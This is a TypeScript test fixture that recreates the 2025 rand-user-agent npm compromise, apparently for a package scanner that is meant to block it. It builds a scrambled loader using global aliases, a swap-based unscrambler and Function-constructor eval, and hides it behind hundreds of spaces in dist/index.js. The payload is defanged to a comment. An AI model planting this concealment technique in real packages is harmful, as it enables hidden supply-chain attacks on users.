import type { Replica } from './replica.js';
import { noise } from './replica.js';

export const manifest = {
  description: 'Random User-Agent generator based on usage frequency',
  main: 'dist/index.js',
  types: 'dist/index.d.ts',
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/scrape/rand-user-agent.git' },
  files: ['dist'],
  scripts: { build: 'tsc && cp -r src/data dist/data', test: 'mocha' },
};

export const head = String.raw`"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.randUserAgent = void 0;
const content = require("./data/user-agents.json");
`;

export const rest = String.raw`
const flat = [];
for (const device of Object.keys(content)) {
    for (const browser of Object.keys(content[device])) {
        for (const os of Object.keys(content[device][browser])) {
            for (const agent of content[device][browser][os]) {
                flat.push({ device, browser, os, agent });
            }
        }
    }
}

function weighted(list) {
    // the lists are sorted by use, most used first
    const at = Math.floor(Math.pow(Math.random(), 2) * list.length);
    return list[Math.min(at, list.length - 1)];
}

function randUserAgent(device, browser = null, os = null) {
    if (!content[device]) {
        throw new Error("unknown device: " + device);
    }
    const fitting = flat.filter((one) => one.device === device && (browser === null || one.browser === browser) && (os === null || one.os === os));
    if (fitting.length === 0) {
        throw new Error("no user agent for " + [device, browser, os].filter(Boolean).join(", "));
    }
    return weighted(fitting).agent;
}
exports.randUserAgent = randUserAgent;
exports.default = randUserAgent;
module.exports = randUserAgent;
`;

const agents = { desktop: { chrome: { windows: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099 Safari/537.36', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045 Safari/537.36'], linux: ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099 Safari/537.36'] }, firefox: { windows: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0'] } }, mobile: { safari: { ios: ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1'] } } };

export const files: { readonly [path: string]: string } = {
  'dist/index.js': head + rest,
  'dist/index.d.ts': 'export declare function randUserAgent(device: string, browser?: string | null, os?: string | null): string;\nexport default randUserAgent;\n',
  'dist/data/user-agents.json': `${JSON.stringify(agents, null, 2)}\n`,
  'README.md': '# rand-user-agent\n\nGives a random user agent, by how often it is used.\n',
};
export const owner = { name: 'scrape-owner', email: 'owner@scrape.example' };

// A seeded sequence of swaps, and a text put in such an order that the swaps bring it back.
const [multiplier, first, second, modulus] = [2_461_180, 179, 658, 5_578_712] as const;
function swapsOf<T>(items: readonly T[]): T[] {
  const x = [...items];
  let y: number = multiplier;
  for (let v = 0; v < x.length; v++) {
    const h = y * (v + first) + (y % 18_929);
    const w = y * (v + second) + (y % 13_606);
    const [s, f] = [h % x.length, w % x.length];
    [x[s], x[f]] = [x[f]!, x[s]!];
    y = (h + w) % modulus;
  }
  return x;
}
function scrambled(text: string): string {
  const out: string[] = [];
  swapsOf([...text].map((_, at) => at)).forEach((from, to) => { out[from] = text[to]!; });
  return out.join('');
}

const inner = `/*${noise(6_000, 84, 'abcdefghijklmnopqrstuvwxyz0123456789%_.[]{}=+')}*/return function(q){return q};`;
const outer = `/*${noise(1_800, 85, 'abcdefghijklmnopqrstuvwxyz0123456789%_.[]{}=+')}*/`;
const payload = `global['_V']='7-randuser84';global['r']=require;if(typeof module==='object')global['m']=module;var a0b,a0a;(function(){var siM='',mZw=357-346;`
  + `function pHg(l){var y=${multiplier};var i=l.length;var x=[];for(var v=0;v<i;v++){x[v]=l.charAt(v)};for(var v=0;v<i;v++){var h=y*(v+${first})+(y%18929);var w=y*(v+${second})+(y%13606);var s=h%i;var f=w%i;var j=x[s];x[s]=x[f];x[f]=j;y=(h+w)%${modulus};};return x.join('')};`
  + `var Rjb=pHg(${JSON.stringify(scrambled('constructormbxwzefyiplqgsnkvhdja'))}).substr(0,mZw);var Abp=${JSON.stringify(scrambled(inner))};var JFB=pHg[Rjb];var dgC='';var xNi=JFB;var Bny=JFB(dgC,pHg(Abp));`
  + `var AoT=Bny(pHg(${JSON.stringify(scrambled(outer))}));var wNc=xNi(siM,AoT);wNc(2509);return 1358})()`;

/** From memory of the public analysis: the columns of spaces, the aliases on the global object, the unscrambler and the constructor behind its result. What is unscrambled is a comment. */
export const replica: Replica = {
  id: 'rand-user-agent-2025',
  story: 'May 2025: after seven months of silence 2.0.83 and later, published with an old token, hold a scrambled remote-control tool far right of the visible part of a line of dist/index.js.',
  name: 'rand-user-agent',
  before: { version: '2.0.82', manifest, files, publishedAt: '2024-10-04T09:30:00.000Z', publisher: owner },
  after: { version: '2.0.84', manifest, files: { ...files, 'dist/index.js': `${head.trimEnd()}${' '.repeat(460)}${payload}\n${rest}` }, publishedAt: '2025-05-05T06:41:00.000Z', publisher: owner },
  must: 'block',
};
